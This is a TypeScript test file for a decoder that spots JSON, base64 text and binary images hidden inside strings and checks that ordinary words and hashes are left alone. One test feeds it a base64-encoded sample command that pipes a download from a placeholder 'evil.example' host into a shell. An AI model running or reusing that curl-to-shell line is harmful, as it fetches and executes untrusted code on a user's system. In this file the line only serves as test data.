import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { decodedOf } from './decoded.ts';

const base64 = (text: string) => Buffer.from(text).toString('base64');

describe('text inside text', () => {
  test('JSON in a text is laid out, and nothing in it changes', () => {
    const inside = '{"role":"admin","limits":[1,2.50,"a  b"]}'.replace('2.50', '2.5');
    const decoded = decodedOf(inside);
    assert.equal(decoded?.kind, 'json');
    assert.match(decoded?.kind === 'json' ? decoded.text : '', /\n {2}"role": "admin"/);
  });

  test('JSON that would come out otherwise is left as it is', () => {
    for (const text of [
      '{"a":1,"a":2,"b":3}',
      '{"amount":12345678901234567890}',
      '{"rate":2.50}',
    ]) {
      assert.equal(decodedOf(text), null, text);
    }
  });

  test('base64 of a text is read', () => {
    const script = 'curl https://evil.example/x | sh # run';
    assert.deepEqual(decodedOf(base64(script)), {
      kind: 'base64',
      bytes: script.length,
      text: script,
    });
    assert.equal(decodedOf(`data:text/plain;base64,${base64(script)}`)?.kind, 'base64');
  });

  test('base64 of a picture is named by its type and its length', () => {
    const picture = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47]), Buffer.alloc(60)]);
    assert.deepEqual(decodedOf(picture.toString('base64')), {
      kind: 'binary',
      bytes: 64,
      type: 'a PNG picture',
    });
  });

  test('words, paths and digests are not taken for base64', () => {
    for (const text of [
      'deploy',
      'averyveryverylongwordindeed',
      'src/components/forms/InputField',
      '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
      'Zm9v\nYmFy',
    ]) {
      assert.equal(decodedOf(text), null, text);
    }
  });
});
